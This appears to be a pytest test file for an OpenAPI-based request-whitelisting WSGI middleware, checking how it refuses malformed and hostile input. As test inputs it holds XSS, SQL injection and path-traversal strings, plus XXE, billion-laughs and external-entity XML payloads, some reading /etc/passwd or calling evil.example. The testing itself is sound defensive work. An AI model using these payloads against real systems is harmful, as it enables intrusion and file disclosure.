"""whitelist: routes, parameters, bodies, media types, limits, defusedxml, html cleaning, modes."""

import io
import json

import pytest
from webtest import TestApp

from conftest import validated
from wsgisec import openapi
from wsgisec.settings import ConfigurationError
from wsgisec.whitelist import SETTINGS, Whitelist, filter_factory, json_depth

DOC = {
    "openapi": "3.1.0",
    "info": {"title": "test", "version": "1"},
    "paths": {
        "/items": {
            "get": {"parameters": [
                {"name": "q", "in": "query", "schema": {"type": "string", "maxLength": 50}},
                {"name": "limit", "in": "query", "schema": {"type": "integer", "minimum": 1, "maximum": 100}},
                {"name": "sort", "in": "query", "schema": {"type": "string", "enum": ["name", "price"]}},
                {"name": "tag", "in": "query", "schema": {"type": "array", "items": {"type": "string", "maxLength": 10}}},
                {"name": "ids", "in": "query", "explode": False,
                 "schema": {"type": "array", "items": {"type": "integer"}}},
                {"name": "active", "in": "query", "schema": {"type": "boolean"}},
                {"name": "X-Partner-Id", "in": "header", "schema": {"type": "string", "pattern": "^p-[0-9]+$"}},
                {"name": "theme", "in": "cookie", "schema": {"type": "string", "enum": ["dark", "light"]}},
                {"name": "bio", "in": "query", "schema": {"type": "string", "format": "html"}},
            ]},
            "post": {"requestBody": {"required": True, "content": {
                "application/json": {"schema": {"$ref": "#/components/schemas/Item"}},
                "application/x-www-form-urlencoded": {"schema": {
                    "type": "object", "required": ["name"],
                    "properties": {"name": {"type": "string"}, "count": {"type": "integer"},
                                   "colour": {"type": "array", "items": {"type": "string"}},
                                   "bio": {"type": "string", "format": "html"}}}},
                "multipart/form-data": {"schema": {
                    "type": "object", "properties": {"name": {"type": "string"},
                                                     "file": {"type": "string", "format": "binary"}}}},
            }}},
        },
        "/items/{item_id}": {
            "parameters": [{"name": "item_id", "in": "path", "required": True, "schema": {"type": "integer"}}],
            "get": {},
            "put": {"requestBody": {"content": {"text/plain": {"schema": {"type": "string", "maxLength": 100}}}}},
        },
        "/files/{name}": {"get": {"parameters": [
            {"name": "name", "in": "path", "required": True, "schema": {"type": "string"}}]}},
        "/orders": {"post": {"requestBody": {"required": True, "content": {
            "application/xml": {"schema": {
                "type": "object", "xml": {"name": "order"}, "required": ["sku"],
                "properties": {"sku": {"type": "string", "pattern": "^[A-Z0-9-]+$"},
                               "quantity": {"type": "integer", "minimum": 1},
                               "note": {"type": "string"},
                               "line": {"type": "array", "items": {"type": "string"}}}}}}}}},
        "/upload": {"post": {"requestBody": {"content": {
            "application/octet-stream": {"schema": {"type": "string", "format": "binary"}}}}}},
        "/open": {"post": {"requestBody": {"content": {"application/json": {"schema": {
            "type": "object", "additionalProperties": {"type": "string"}}}}}}},
    },
    "components": {"schemas": {
        "Item": {"type": "object", "required": ["name"], "properties": {
            "name": {"type": "string", "minLength": 1, "maxLength": 100},
            "price": {"type": ["number", "null"], "minimum": 0},
            "tags": {"type": "array", "items": {"type": "string"}},
            "meta": {"type": "object", "properties": {"color": {"type": "string"}}},
            "description": {"type": "string", "format": "html"},
            "email": {"type": "string", "format": "email"},
        }},
    }},
}


def echo(environ, start_response):
    """Reports exactly what reached the app."""
    length = int(environ.get("CONTENT_LENGTH") or 0)
    body = environ["wsgi.input"].read(length) if length else b""
    seen = {"query": environ.get("QUERY_STRING", ""), "body": body.decode("latin-1"),
            "content_length": environ.get("CONTENT_LENGTH"), "path": environ.get("PATH_INFO"),
            "reported": environ.get("wsgisec.whitelist.reported")}
    start_response("200 OK", [("Content-Type", "application/json")])
    return [json.dumps(seen).encode()]


def make(store=None, **kw):
    kw.setdefault("rules", DOC)
    return TestApp(validated(Whitelist(echo, store=store, **kw)))


@pytest.fixture(scope="module")
def app():
    return make()


# -- routes and methods ---------------------------------------------------------------

def test_declared_get_passes_untouched(app):
    response = app.get("/items?q=Widget&limit=10&sort=name")
    assert response.json["query"] == "q=Widget&limit=10&sort=name"


@pytest.mark.parametrize("path", [
    pytest.param("/nope", id="undeclared"),
    pytest.param("/items/", id="trailing-slash"),
    pytest.param("/items/1/extra", id="deeper"),
    pytest.param("/ITEMS", id="case"),
])
def test_undeclared_path_is_404(app, path):
    response = app.get(path, status=404)
    assert response.json["detail"] == "path: is not declared"


def test_undeclared_method_is_405_with_allow(app):
    response = app.delete("/items", status=405)
    assert response.headers["Allow"] == "GET, HEAD, POST"
    assert response.json["detail"] == 'method "DELETE": is not allowed on this path'


def test_head_follows_get(app):
    app.head("/items?limit=3", status=200)


def test_path_template_and_parameter(app):
    assert app.get("/items/42").json["path"] == "/items/42"
    response = app.get("/items/abc", status=400)
    assert response.json["detail"] == 'path parameter "item_id": must be an integer'


@pytest.mark.parametrize("path, rule", [
    pytest.param("/files/..", "path traversal", id="dotdot-segment"),
    pytest.param("/files/%3Cscript%3E", "HTML or script markup", id="markup"),
])
def test_path_parameters_get_the_text_policy(app, path, rule):
    # WebTest passes PATH_INFO decoded once, as a server does.
    import urllib.parse

    response = app.get("/files/x", extra_environ={"PATH_INFO": urllib.parse.unquote(path)}, status=400)
    assert response.json["rule"] == rule


# -- query parameters -----------------------------------------------------------------

@pytest.mark.parametrize("query, detail", [
    pytest.param("id=1", 'query parameter "id": is not declared', id="undeclared"),
    pytest.param("limit=ten", 'query parameter "limit": must be an integer', id="not-integer"),
    pytest.param("limit=0", 'query parameter "limit": must be >= 1', id="below-minimum"),
    pytest.param("limit=1000", 'query parameter "limit": must be <= 100', id="above-maximum"),
    pytest.param("limit=1.5", 'query parameter "limit": must be an integer', id="float-for-integer"),
    pytest.param("sort=DROP", 'query parameter "sort": must be one of the declared values', id="enum"),
    pytest.param("limit=1&limit=2", 'query parameter "limit": must not be repeated', id="pollution"),
    pytest.param("q=" + "a" * 51, 'query parameter "q": must be at most 50 characters long', id="maxLength"),
    pytest.param("tag=" + "a" * 11, 'query parameter "tag[0]": must be at most 10 characters long', id="array-item"),
    pytest.param("ids=1,x", 'query parameter "ids": must be an integer', id="csv-array-item"),
    pytest.param("active=yes", 'query parameter "active": must be true or false', id="boolean"),
    pytest.param("q=%FF", "query string: must be UTF-8", id="bad-utf8"),
    pytest.param("q=<script>alert(1)</script>", 'query parameter "q": HTML or script markup', id="xss"),
    pytest.param("q=1' OR '1'='1", 'query parameter "q": SQL tautology', id="sqli"),
    pytest.param("q=%252e%252e%252f", 'query parameter "q": double or mixed encoding', id="double-encoding"),
])
def test_query_refusals_name_the_parameter_and_rule(app, query, detail):
    response = app.get("/items?" + query, status=400)
    assert response.json["detail"] == detail
    assert response.json["incident_id"] == response.headers["X-Incident-Id"]


def test_refusal_never_echoes_the_value(app):
    payload = "<svg/onload=alert('pwned-value')>"
    response = app.get("/items", params={"q": payload}, status=400)
    assert "pwned-value" not in response.text
    for accept in ("text/html", "text/plain"):
        response = app.get("/items", params={"q": payload}, headers={"Accept": accept}, status=400)
        assert "pwned-value" not in response.text and "HTML or script markup" in response.text


def test_undeclared_name_that_looks_like_a_payload_is_not_echoed(app):
    response = app.get("/items?%3Cimg%20src%3Dx%3E=1", status=400)
    assert "img" not in response.text
    assert response.json["detail"] == 'query parameter "(a name that is not declared)": is not declared'


def test_arrays_exploded_and_comma_separated(app):
    app.get("/items?tag=a&tag=b&ids=1,2,3&active=true", status=200)


def test_html_query_parameter_is_cleaned_and_the_app_gets_the_cleaned_value(app):
    response = app.get("/items", params={"bio": "<b>hi</b><script>alert(1)</script>", "limit": "2"})
    seen = response.json["query"]
    assert "script" not in seen and "%3Cb%3Ehi%3C%2Fb%3E" in seen and "limit=2" in seen


# -- headers and cookies --------------------------------------------------------------

def test_only_declared_headers_are_validated(app):
    # Credentials and signatures belong to the layers outside; never "undeclared".
    headers = {"Authorization": "Bearer <x>' or 1=1", "Signature": "sig1=:abc:", "Signature-Input": "x",
               "Content-Digest": "sha-256=:x:", "X-Request-Token": "t", "Cookie": "session=<script>",
               "X-Partner-Id": "p-17"}
    app.get("/items", headers=headers, status=200)
    response = app.get("/items", headers={"X-Partner-Id": "p-x"}, status=400)
    assert response.json["detail"] == 'header "X-Partner-Id": must match the declared pattern'


def test_declared_cookie_is_validated(app):
    app.get("/items", headers={"Cookie": "theme=dark; session=whatever"}, status=200)
    response = app.get("/items", headers={"Cookie": "theme=pink"}, status=400)
    assert response.json["detail"] == 'cookie "theme": must be one of the declared values'


# -- JSON bodies ----------------------------------------------------------------------

def test_json_body_passes_byte_for_byte(app):
    body = b'{"name": "O\'Brien & AT&T", "price": 3.5, "tags": ["\xf0\x9f\x91\x8d"]}'
    response = app.post("/items", body, content_type="application/json; charset=utf-8")
    assert response.json["body"].encode("latin-1") == body
    assert response.json["content_length"] == str(len(body))


@pytest.mark.parametrize("body, detail", [
    pytest.param(b'{"price": 1}', 'body property "name": is required', id="required"),
    pytest.param(b'{"name": "x", "admin": true}', 'body property "admin": is not declared', id="undeclared"),
    pytest.param(b'{"name": "x", "meta": {"color": "red", "size": 1}}', 'body property "meta.size": is not declared',
                 id="nested-closed"),
    pytest.param(b'{"name": 5}', 'body property "name": must be a string', id="type"),
    pytest.param(b'{"name": "x", "price": -1}', 'body property "price": must be >= 0', id="minimum"),
    pytest.param(b'{"name": "x", "tags": ["a", 1]}', 'body property "tags[1]": must be a string', id="array-item"),
    pytest.param(b'{"name": "x", "email": "nope"}', 'body property "email": must be a valid email', id="format"),
    pytest.param(b'{"name": "x", "name": "y"}', 'body property "name": appears more than once', id="duplicate-key"),
    pytest.param(b'{"name": NaN}', "request body: is not valid JSON", id="nan"),
    pytest.param(b'{"name": "x"', "request body: is not valid JSON", id="truncated"),
    pytest.param(b'\xef\xbb\xbf{"name": "x"}', "request body: is not valid JSON", id="bom"),
    pytest.param(b'{"name": "\xff"}', "request body: must be UTF-8", id="bad-utf8"),
    pytest.param(b'[1]', "request body: must be an object", id="root-type"),
    pytest.param(b'{"name": "<img src=x onerror=alert(1)>"}', 'body property "name": HTML or script markup', id="xss"),
    pytest.param(b'{"name": "x", "tags": ["1; DROP TABLE items"]}', 'body property "tags[1]": SQL stacked query'
                 .replace("[1]", "[0]"), id="sqli-in-array"),
    pytest.param(b'{"name": "%3Cscript%3E"}', 'body property "name": HTML or script markup', id="encoded-once"),
    pytest.param(b'{"name": "%253Cscript%253E"}', 'body property "name": double or mixed encoding', id="encoded-twice"),
    pytest.param(b'{"name": "\\u0000x"}', 'body property "name": control characters are not allowed', id="nul"),
])
def test_json_refusals(app, body, detail):
    response = app.post("/items", body, content_type="application/json", status=400)
    assert response.json["detail"] == detail


def test_json_html_field_is_cleaned_and_content_length_fixed(app):
    body = json.dumps({"name": "x", "description": "<p onclick=\"x()\">Hi <script>alert(1)</script></p>"})
    response = app.post("/items", body, content_type="application/json")
    received = json.loads(response.json["body"])
    assert received == {"name": "x", "description": "<p>Hi </p>"}
    assert response.json["content_length"] == str(len(response.json["body"].encode("latin-1")))


def test_additional_properties_when_the_document_allows_them(app):
    app.post("/open", b'{"anything": "goes", "here": "fine"}', content_type="application/json", status=200)
    response = app.post("/open", b'{"x": 1}', content_type="application/json", status=400)
    assert response.json["detail"] == 'body property "x": must be a string'
    response = app.post("/open", b'{"<script>": "v"}', content_type="application/json", status=400)
    assert response.json["rule"] == "property name: HTML or script markup"


def test_json_depth_limit():
    app = make(max_json_depth=5)
    app.post("/open", b'{"a": "[[[[[[[[[[ in a string is not nesting"}', content_type="application/json", status=200)
    response = app.post("/items", b'{"name": "x", "meta": ' + b"[" * 10 + b"]" * 10 + b"}",
                        content_type="application/json", status=400)
    assert response.json["detail"] == "request body: is nested deeper than 5 levels"


def test_json_depth_scan():
    assert json_depth('{"a": [1, {"b": "[[[["}]}', 3) == 3
    assert json_depth("[" * 100000 + "]" * 100000, 32) == 100000  # counted, never recursed into
    assert json_depth('["]]]]", "\\"[[[["]', 1) == 1  # brackets and escaped quotes inside strings


def test_deeply_nested_json_is_refused_without_a_crash(app):
    response = app.post("/items", b"[" * 100000 + b"]" * 100000, content_type="application/json", status=400)
    assert "nested deeper" in response.json["detail"]


# -- media types ----------------------------------------------------------------------

@pytest.mark.parametrize("content_type, status, detail", [
    pytest.param("text/json", 415, 'media type "text/json": is not declared for this operation', id="undeclared"),
    pytest.param("application/jsonx", 415, 'media type "application/jsonx": is not declared for this operation',
                 id="prefix-trick"),
    pytest.param("application/json, text/plain", 415, "Content-Type: is not a valid media type", id="list"),
    pytest.param("application/json; charset=utf-16", 415, "Content-Type: charset must be utf-8", id="charset"),
    pytest.param("application/json;;", 200, None, id="empty-params-are-tolerated"),
    pytest.param("APPLICATION/JSON; Charset=\"UTF-8\"", 200, None, id="case-and-quoted"),
    pytest.param("json", 415, "Content-Type: is not a valid media type", id="no-subtype"),
    pytest.param("application/json; charset", 415, "Content-Type: is not a valid media type", id="bad-param"),
])
def test_media_types_are_parsed_not_guessed(app, content_type, status, detail):
    response = app.post("/items", b'{"name": "x"}', headers={"Content-Type": content_type}, status=status)
    if detail:
        assert response.json["detail"] == detail
        assert "Accept-Post" in response.headers


def test_body_without_content_type_is_415(app):
    response = app.post("/items", b'{"name": "x"}', extra_environ={"CONTENT_TYPE": ""}, status=415)
    assert response.json["detail"] == "Content-Type: is required with a request body"


def test_body_on_an_operation_without_request_body_is_refused(app):
    app.request("/items/3", method="GET", body=b"x=1", content_type="application/x-www-form-urlencoded",
                status=415)


def test_required_body_missing_is_400(app):
    response = app.post("/items", b"", content_type="application/json", status=400)
    assert response.json["detail"] == "request body: is required"


# -- form and multipart ---------------------------------------------------------------

def test_form_fields_are_typed_and_checked(app):
    app.post("/items", {"name": "Tom & Jerry", "count": "3", "colour": ["red", "blue"]}, status=200)
    for fields, detail in [
        ({"name": "x", "count": "many"}, 'form field "count": must be an integer'),
        ({"name": "x", "admin": "1"}, 'form field "admin": is not declared'),
        ({"count": "1"}, 'form field "name": is required'),
        ({"name": "1 UNION SELECT password FROM users"}, 'form field "name": SQL UNION SELECT'),
    ]:
        assert app.post("/items", fields, status=400).json["detail"] == detail
    response = app.post("/items", "name=a&name=b", content_type="application/x-www-form-urlencoded", status=400)
    assert response.json["detail"] == 'form field "name": must not be repeated'


def test_form_html_field_is_cleaned_and_rewritten(app):
    response = app.post("/items", {"name": "x", "bio": "<i>ok</i><img src=x onerror=alert(1)>"})
    assert response.json["body"] == "name=x&bio=%3Ci%3Eok%3C%2Fi%3E%3Cimg+src%3D%22x%22%3E"
    assert response.json["content_length"] == str(len(response.json["body"]))


def test_multipart_fields_and_files(app):
    app.post("/items", {"name": "report"}, upload_files=[("file", "report.pdf", b"%PDF-\x00\xff binary")],
             status=200)
    response = app.post("/items", {"name": "x"}, upload_files=[("file", "../../etc/passwd", b"x")], status=400)
    assert response.json["detail"] == 'multipart field "file": filename must be a plain file name'
    response = app.post("/items", {"name": "<script>x</script>"}, upload_files=[("file", "a.txt", b"x")],
                        status=400)
    assert response.json["detail"] == 'multipart field "name": HTML or script markup'
    response = app.post("/items", {"other": "x"}, upload_files=[("file", "a.txt", b"x")], status=400)
    assert response.json["detail"] == 'multipart field "other": is not declared'


def test_malformed_multipart_is_refused(app):
    app.post("/items", b"--b\r\nno headers here--b--", content_type="multipart/form-data; boundary=b", status=400)
    app.post("/items", b"x", content_type="multipart/form-data", status=400)


# -- XML ------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<order><sku>&xxe;</sku></order>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<order><sku>&lol3;</sku></order>"""
DTD_ONLY = b'<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://evil.example/x.dtd"><order><sku>A</sku></order>'
PARAMETER_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>
<order><sku>A</sku></order>"""


@pytest.mark.parametrize("body", [
    pytest.param(XXE, id="xxe"),
    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
    pytest.param(DTD_ONLY, id="external-dtd"),
    pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
])
def test_unsafe_xml_is_refused(app, body):
    response = app.post("/orders", body, content_type="application/xml", status=400)
    assert response.json["detail"] == ("request body: XML DTDs, entity declarations and external "
                                       "references are not allowed")


@pytest.mark.parametrize("body, detail", [
    pytest.param(b"<order><sku>a b</sku></order>", 'body element "sku": must match the declared pattern', id="pattern"),
    pytest.param(b"<order><sku>A</sku><quantity>x</quantity></order>", 'body element "quantity": must be an integer',
                 id="type"),
    pytest.param(b"<order><sku>A</sku><admin>1</admin></order>", 'body element "admin": is not declared',
                 id="undeclared"),
    pytest.param(b"<order><sku>A</sku><sku>B</sku></order>", 'body element "sku": must not be repeated', id="repeat"),
    pytest.param(b"<order><quantity>1</quantity></order>", 'body element "sku": is required', id="required"),
    pytest.param(b"<basket><sku>A</sku></basket>", "request body: has an undeclared root element", id="root"),
    pytest.param(b"<order><sku>A</sku>", "request body: is not well-formed XML", id="malformed"),
    pytest.param(b"<order><sku>A</sku><note>&lt;script&gt;x</note></order>", 'body element "note": HTML or script markup',
                 id="escaped-markup-in-text"),
])
def test_xml_is_validated_against_the_schema(app, body, detail):
    response = app.post("/orders", body, content_type="application/xml", status=400)
    assert response.json["detail"] == detail


def test_valid_xml_reaches_the_app_unchanged(app):
    body = b'<?xml version="1.0" encoding="utf-8"?><order><sku>AB-1</sku><quantity>2</quantity>' \
           b"<line>one</line><line>two</line><note>O'Brien &amp; sons</note></order>"
    for content_type in ("application/xml", "text/xml; charset=utf-8"):
        if content_type.startswith("text/"):
            continue  # only application/xml is declared for /orders
        assert app.post("/orders", body, content_type=content_type).json["body"].encode("latin-1") == body
    app.post("/orders", body, content_type="text/xml", status=415)


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "bogus-encoding"])
def test_xml_in_an_encoding_expat_does_not_read_is_refused_not_a_500(app, encoding):
    """Found by the whole-stack fuzz (issue 14): expat raises ValueError, not ParseError,
    for multi-byte encodings such as utf-7, which used to escape as a masked 500."""
    body = f'<?xml version="1.0" encoding="{encoding}"?><order><sku>A</sku></order>'.encode()
    response = app.post("/orders", body, content_type="application/xml", status=400)
    assert response.json["detail"].startswith("request body: ")


def test_xml_depth_and_element_limits():
    app = make(max_xml_depth=4, max_xml_elements=10)
    deep = b"<order><sku>A</sku><note>" + b"<a>" * 5 + b"</a>" * 5 + b"</note></order>"
    assert "nested deeper than 4" in app.post("/orders", deep, content_type="application/xml", status=400).json["detail"]
    many = b"<order><sku>A</sku>" + b"<line>x</line>" * 20 + b"</order>"
    assert "more than 10 elements" in app.post("/orders", many, content_type="application/xml", status=400).json["detail"]


# -- text/plain and octet-stream ------------------------------------------------------

def test_text_plain_and_binary_bodies(app):
    app.put("/items/1", b"just a note", content_type="text/plain; charset=utf-8", status=200)
    assert app.put("/items/1", b"x" * 101, content_type="text/plain", status=400).json["rule"] == \
        "must be at most 100 characters long"
    app.put("/items/1", b"<script>", content_type="text/plain", status=400)
    app.post("/upload", b"\x00\xff\xfe binary", content_type="application/octet-stream", status=200)


# -- limits ---------------------------------------------------------------------------

def test_body_too_large_is_413_before_reading():
    app = make(max_body=100)

    class Exploding(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the body must not be read")

    response = app.post("/items", b"x" * 101, content_type="application/json", status=413,
                        extra_environ={"wsgi.input": Exploding(b"x" * 101)})
    assert response.json["detail"] == "request body: is larger than 100 bytes"


def test_chunked_body_is_limited_while_reading():
    app = Whitelist(echo, rules=DOC, max_body=100)
    environ = {"REQUEST_METHOD": "POST", "PATH_INFO": "/items", "QUERY_STRING": "", "SERVER_NAME": "x",
               "SERVER_PORT": "80", "wsgi.url_scheme": "http", "CONTENT_TYPE": "application/json",
               "HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input": io.BytesIO(b'{"name": "' + b"x" * 10000 + b'"}')}
    statuses = []
    body = b"".join(app(environ, lambda status, headers, exc_info=None: statuses.append(status)))
    assert statuses == ["413 Request Entity Too Large"] and b"larger than 100 bytes" in body


def test_max_params():
    app = make(max_params=3)
    app.get("/items?q=a&limit=1&sort=name", status=200)
    response = app.get("/items?tag=a&tag=b&tag=c&tag=d", status=400)
    assert response.json["detail"] == "query string: has more than 3 parameters"
    response = app.post("/items", "name=a&colour=1&colour=2&colour=3", content_type="application/x-www-form-urlencoded",
                        status=400)
    assert response.json["detail"] == "request body: has more than 3 fields"


def test_max_string_length_applies_where_the_schema_has_no_maxLength():
    app = make(max_string_length=20)
    response = app.post("/items", {"name": "x" * 21}, status=400)
    assert response.json["detail"] == 'form field "name": is longer than 20 characters'
    app.get("/items?q=" + "x" * 30, status=200)  # q declares maxLength 50 itself


# -- events, report-only --------------------------------------------------------------

def test_refusal_emits_an_event_with_the_incident_id(store, caplog):
    app = make(store=store)
    response = app.get("/items?q=%3Cscript%3Esecret-payload", status=400)
    [event] = store.events(kinds=["whitelist.input-attack"])
    assert event["incident_id"] == response.json["incident_id"]
    assert event["detail"] == {"in": "query parameter", "parameter": "q", "mode": "enforce"}
    assert "secret-payload" not in json.dumps(event) and "secret-payload" not in caplog.text


def test_report_only_lets_the_request_through_and_reports(store):
    app = make(store=store, mode="report-only")
    response = app.get("/items?q=%3Cscript%3E&nope=1", status=200)
    assert response.json["query"] == "q=%3Cscript%3E&nope=1"
    assert response.json["reported"] == 'query parameter "nope": is not declared'
    [event] = store.events(kinds=["whitelist.input-invalid"])
    assert event["severity"] == "info" and event["detail"]["mode"] == "report-only"
    # Nothing is rewritten in report-only either.
    assert app.get("/items?bio=%3Cscript%3Ex").json["query"] == "bio=%3Cscript%3Ex"
    assert app.get("/nowhere", status=200).json["reported"] == "path: is not declared"


# -- configuration --------------------------------------------------------------------

def _doc(**changes):
    doc = json.loads(json.dumps(DOC))
    doc.update(changes)
    return doc


@pytest.mark.parametrize("doc, message", [
    pytest.param({"openapi": "2.0", "paths": {"/": {"get": {}}}}, "not supported", id="swagger-2"),
    pytest.param({"openapi": "3.1.0", "paths": {}}, "declares no paths", id="no-paths"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
        {"name": "a", "in": "query", "schema": {"type": "string", "format": "phone"}}]}}}},
        "format 'phone' is not known", id="unknown-format"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
        {"name": "a", "in": "query", "schema": {"type": "string", "prefixItems": []}}]}}}},
        "'prefixItems' is not supported", id="unknown-keyword"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"post": {"requestBody": {"content": {
        "application/pdf": {"schema": {}}}}}}}}, "cannot read 'application/pdf'", id="unreadable-media-type"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"post": {"requestBody": {"content": {
        "*/*": {"schema": {}}}}}}}}, "cannot read '*/*'", id="wildcard-media-type"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x/{id}": {"get": {}}}}, "{id} is not declared",
                 id="undeclared-path-param"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
        {"name": "a", "in": "query", "schema": {"$ref": "https://evil.example/s.json"}}]}}}},
        "only local $ref", id="remote-ref"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
        {"name": "a", "in": "query", "schema": {"type": "string", "pattern": "("}}]}}}},
        "not a valid regular expression", id="bad-pattern"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
        {"name": "a", "in": "query", "style": "deepObject", "schema": {"type": "string"}}]}}}},
        "style 'deepObject'", id="deep-object"),
    pytest.param({"openapi": "3.1.0", "paths": {"/x": {"frobnicate": {}}}}, "not an HTTP method", id="bad-method"),
])
def test_invalid_documents_are_refused_at_load_time(doc, message):
    with pytest.raises(ConfigurationError, match=message.replace("*", r"\*").replace("$", r"\$")
                       .replace("{", r"\{").replace("}", r"\}").replace("(", r"\(")):
        Whitelist(echo, rules=doc)


def test_rules_are_required_unless_learning():
    with pytest.raises(ConfigurationError, match="rules is required"):
        Whitelist(echo)


def test_openapi_30_nullable_and_exclusive_bounds():
    doc = {"openapi": "3.0.3", "paths": {"/x": {"get": {"parameters": [
        {"name": "n", "in": "query", "schema": {"type": "integer", "minimum": 0, "exclusiveMinimum": True}}]},
        "post": {"requestBody": {"content": {"application/json": {"schema": {
            "type": "object", "properties": {"a": {"type": "string", "nullable": True}}}}}}}}}}
    app = make(rules=doc)
    app.get("/x?n=1", status=200)
    assert app.get("/x?n=0", status=400).json["rule"] == "must be > 0"
    app.post("/x", b'{"a": null}', content_type="application/json", status=200)


def test_filter_factory_resolves_rules_relative_to_here(tmp_path):
    (tmp_path / "api.json").write_text(json.dumps(DOC))
    factory = filter_factory({"here": str(tmp_path), "__file__": str(tmp_path / "x.ini")},
                             rules="api.json", max_body="2KB", mode="report-only")
    layer = factory(echo)
    assert layer.settings["rules"] == str(tmp_path / "api.json") and layer.max_body == 2048
    assert layer.mode == "report-only" and layer.warnings()


def test_filter_factory_errors_name_the_filter_and_file(tmp_path):
    (tmp_path / "bad.yaml").write_text("openapi: 3.1.0\npaths: {}\n")
    with pytest.raises(ConfigurationError, match=r"egg:wsgisec#whitelist \(.*x.ini\): rules = .*declares no paths"):
        filter_factory({"here": str(tmp_path), "__file__": str(tmp_path / "x.ini")}, rules="bad.yaml")
    with pytest.raises(ConfigurationError, match="cannot be read"):
        filter_factory({"here": str(tmp_path)}, rules="missing.yaml")
    with pytest.raises(ConfigurationError, match="mode = 'block'"):
        filter_factory({"here": str(tmp_path)}, rules="bad.yaml", mode="block")
    with pytest.raises(ConfigurationError, match="unknown setting"):
        filter_factory({"here": str(tmp_path)}, rules="bad.yaml", max_bdy="1MB")


def test_every_setting_is_documented():
    import wsgisec.whitelist as module

    for key in SETTINGS:
        assert f"``{key}``" in module.__doc__


def test_media_type_parser():
    assert openapi.parse_media_type('application/json; charset="utf-8"') == ("application/json", {"charset": "utf-8"})
    assert openapi.parse_media_type("application/vnd.api+json") == ("application/vnd.api+json", {})
    assert openapi.media_kind("application/vnd.api+json") == "json"
    assert openapi.media_kind("application/soap+xml") == "xml"
    assert openapi.media_kind("application/json-patch") is None
    assert openapi.parse_media_type("application/json; a=1; a=2") is None
    assert openapi.parse_media_type("text/html\r\nX: y") is None


FORMATS = {"openapi": "3.1.0", "paths": {"/x": {"get": {"parameters": [
    {"name": name, "in": "query", "schema": schema} for name, schema in [
        ("id", {"type": "string", "format": "uuid"}), ("b", {"type": "string", "format": "byte"}),
        ("n", {"type": "integer", "format": "int32"}), ("big", {"type": "integer", "format": "int64", "minimum": 0}),
        ("d", {"type": "string", "format": "date"}), ("t", {"type": "string", "format": "date-time"}),
        ("u", {"type": "string", "format": "uri"}), ("ip", {"type": "string", "format": "ipv4"}),
        ("mail", {"type": "string", "format": "email"})]]}}}}


@pytest.mark.parametrize("query, status, detail", [
    pytest.param("id=123e4567-e89b-12d3-a456-426614174000", 200, None, id="uuid"),
    pytest.param("id=nope", 400, 'query parameter "id": must be a valid uuid', id="bad-uuid"),
    pytest.param("b=aGVsbG8%3D", 200, None, id="byte"),
    pytest.param("b=%21%21", 400, 'query parameter "b": must be a valid byte', id="bad-byte"),
    pytest.param("n=-2147483648", 200, None, id="int32-min"),
    pytest.param("n=2147483648", 400, 'query parameter "n": must be <= 2147483647', id="int32-overflow"),
    pytest.param("big=-1", 400, 'query parameter "big": must be >= 0', id="int64-keeps-stricter-minimum"),
    pytest.param("d=2024-01-31", 200, None, id="date"),
    pytest.param("d=yesterday", 400, 'query parameter "d": must be a valid date', id="bad-date"),
    pytest.param("t=2024-01-31T10:00:00Z", 200, None, id="date-time"),
    pytest.param("u=javascript:alert(1)", 200, None, id="uri-allows-any-scheme-use-a-pattern"),
    pytest.param("ip=300.1.1.1", 400, 'query parameter "ip": must be a valid ipv4', id="bad-ipv4"),
    pytest.param("mail=a%40example.com", 200, None, id="email"),
])
def test_formats(query, status, detail):
    response = make(rules=FORMATS).get("/x?" + query, status=status)
    if detail:
        assert response.json["detail"] == detail
